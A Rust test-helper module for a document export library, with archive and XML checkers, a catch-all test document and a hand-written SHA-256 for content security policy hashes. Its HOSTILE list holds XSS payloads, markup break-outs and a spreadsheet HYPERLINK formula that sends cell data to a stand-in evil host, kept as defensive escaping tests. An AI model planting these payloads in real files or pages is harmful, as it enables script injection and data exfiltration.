//! What the tests of every format share: one document with everything in it, and readers that are
//! stricter than a browser or a word processor.

use std::collections::BTreeMap;
use std::io::{Cursor, Read};

use super::*;

/// The files of an archive by path.
pub(crate) fn unzip(bytes: Vec<u8>) -> BTreeMap<String, Vec<u8>> {
    let mut archive = ::zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    (0..archive.len())
        .map(|i| {
            let mut entry = archive.by_index(i).unwrap();
            let mut content = Vec::new();
            entry.read_to_end(&mut content).unwrap();
            (entry.name().unwrap().into_owned(), content)
        })
        .collect()
}

/// Every tag of a page, in order, with its attributes.
pub(crate) fn html_tags(page: &str) -> Vec<String> {
    page.split('<').skip(1).map(|part| part.split('>').next().unwrap().to_owned()).collect()
}

/// The tags of an XML part in order, after checking that it is well-formed: tags nest, attributes
/// are quoted, entities are known, characters are legal.
pub(crate) fn xml_tags(part: &str) -> Vec<String> {
    let mut open = Vec::new();
    let mut seen = Vec::new();
    let body = part
        .strip_prefix("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n")
        .expect("starts with the declaration");
    assert!(body.starts_with('<'));
    for piece in body.split('<').skip(1) {
        let (tag, text) = piece.split_once('>').expect("every tag is closed");
        if let Some(name) = tag.strip_prefix('/') {
            assert_eq!(open.pop().as_deref(), Some(name));
        } else {
            assert_eq!(tag.matches('"').count() % 2, 0, "{tag}");
            seen.push(tag.to_owned());
            if !tag.ends_with('/') {
                open.push(tag.split(' ').next().unwrap().to_owned());
            }
        }
        for entity in text.split('&').skip(1) {
            let name = entity.split(';').next().unwrap();
            assert!(["amp", "lt", "gt", "quot", "#39"].contains(&name), "&{name}");
        }
        assert!(text.chars().all(|c| matches!(c, '\t' | '\n') || c >= ' '));
        assert!(!text.contains(['\u{fffe}', '\u{ffff}']));
    }
    assert!(open.is_empty(), "{open:?}");
    seen
}

/// A document whose every text is `text`.
pub(crate) fn everything(text: &str) -> Document {
    let t = || text.to_owned();
    Document {
        title: t(),
        language: "en-US".to_owned(),
        properties: Properties::default(),
        blocks: vec![
            Block::heading(1, text),
            Block::Paragraph(vec![Run::plain(text), Run::bold(text)]),
            Block::list(ListStyle::Bullet, [text]),
            Block::list(ListStyle::Checkbox, [text]),
            Block::list(ListStyle::Numbered, [text]),
            Block::list(ListStyle::Numbered, [text, text]),
            Block::Table(Table {
                columns: vec![Column::text(text), Column::number(text)],
                rows: vec![vec![t(), t()], vec![t()], vec![t(), t(), t()]],
                total: Some(vec![t(), t()]),
            }),
            Block::KeyValues(vec![(t(), t())]),
            Block::SignOff(Table {
                columns: vec![Column::text(text), Column::text(text)],
                rows: vec![vec![t(), String::new()]],
                total: None,
            }),
            Block::PageBreak,
            Block::heading(9, text),
        ],
    }
}

/// Number of times [`everything`] prints its text (the title apart).
pub(crate) const TIMES: usize = 1 + 2 + 1 + 1 + 1 + 2 + 2 + 2 + 1 + 2 + 2 + 2 + 3 + 1;

/// Texts that try to be something else.
pub(crate) const HOSTILE: [&str; 16] = [
    "<script>window.XSS=1</script>",
    "\"><img src=x onerror=window.XSS=1>",
    "'><img src=x onerror=window.XSS=1>",
    "</title><script>window.XSS=1</script>",
    "</style><script>window.XSS=1</script>",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]><script>window.XSS=1</script>",
    "&lt;script&gt;window.XSS=1&lt;/script&gt;",
    "</w:t></w:r></w:p><w:p>",
    "<?xml version=\"1.0\"?>",
    "&#0; &bogus; &",
    "=HYPERLINK(\"https://evil.invalid/?x=\"&A1,\"click\")",
    "a\u{0}b\u{1}c\u{8}d\u{b}e\u{1f}f\u{7f}g\u{fffe}h\u{ffff}i",
    "{{constructor.constructor(\"window.XSS=1\")()}}",
];

/// The SHA-256 of `text` in Base64, as a content security policy wants it (FIPS 180-4).
pub(crate) fn sha256(text: &str) -> String {
    let primes: Vec<u32> = (2_u32..).filter(|n| (2..*n).all(|d| n % d != 0)).take(64).collect();
    #[expect(
        clippy::cast_possible_truncation,
        clippy::cast_sign_loss,
        reason = "the standard takes the first 32 bits of the fraction"
    )]
    let fraction = |root: f64| (root.fract() * 4_294_967_296.0) as u32;
    let k: Vec<u32> = primes.iter().map(|&p| fraction(f64::from(p).cbrt())).collect();
    let mut hash: Vec<u32> =
        primes.iter().take(8).map(|&p| fraction(f64::from(p).sqrt())).collect();
    let mut bytes = text.as_bytes().to_vec();
    bytes.push(0x80);
    while bytes.len() % 64 != 56 {
        bytes.push(0);
    }
    bytes.extend((text.len() as u64 * 8).to_be_bytes());
    for block in bytes.chunks(64) {
        let mut w: Vec<u32> =
            block.chunks(4).map(|four| u32::from_be_bytes(four.try_into().unwrap())).collect();
        for i in 16..64 {
            let (a, b) = (w[i - 15], w[i - 2]);
            let s0 = a.rotate_right(7) ^ a.rotate_right(18) ^ (a >> 3);
            let s1 = b.rotate_right(17) ^ b.rotate_right(19) ^ (b >> 10);
            w.push(w[i - 16].wrapping_add(s0).wrapping_add(w[i - 7]).wrapping_add(s1));
        }
        let mut v = hash.clone();
        for i in 0..64 {
            let s1 = v[4].rotate_right(6) ^ v[4].rotate_right(11) ^ v[4].rotate_right(25);
            let choice = (v[4] & v[5]) ^ (!v[4] & v[6]);
            let t1 = [s1, choice, k[i], w[i]].into_iter().fold(v[7], u32::wrapping_add);
            let s0 = v[0].rotate_right(2) ^ v[0].rotate_right(13) ^ v[0].rotate_right(22);
            let majority = (v[0] & v[1]) ^ (v[0] & v[2]) ^ (v[1] & v[2]);
            v.rotate_right(1);
            v[4] = v[4].wrapping_add(t1);
            v[0] = t1.wrapping_add(s0).wrapping_add(majority);
        }
        for (sum, value) in hash.iter_mut().zip(v) {
            *sum = sum.wrapping_add(value);
        }
    }
    let digits = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let digest: Vec<u8> = hash.into_iter().flat_map(u32::to_be_bytes).collect();
    let mut out: String = digest
        .chunks(3)
        .flat_map(|three| {
            let bits = three.iter().fold(0_u32, |bits, &b| bits << 8 | u32::from(b))
                << (8 * (3 - three.len()));
            (0..=three.len()).map(move |i| digits[(bits >> (18 - 6 * i) & 63) as usize] as char)
        })
        .collect();
    out.push('=');
    out
}

#[test]
fn the_hash_is_the_published_one() {
    // FIPS 180-4, "abc": ba7816bf 8f01cfea 414140de 5dae2223 b00361a3 96177a9c b410ff61 f20015ad.
    assert_eq!(sha256("abc"), "ungWv48Bz+pBQUDeXa4iI7ADYaOWF3qctBD/YfIAFa0=");
}
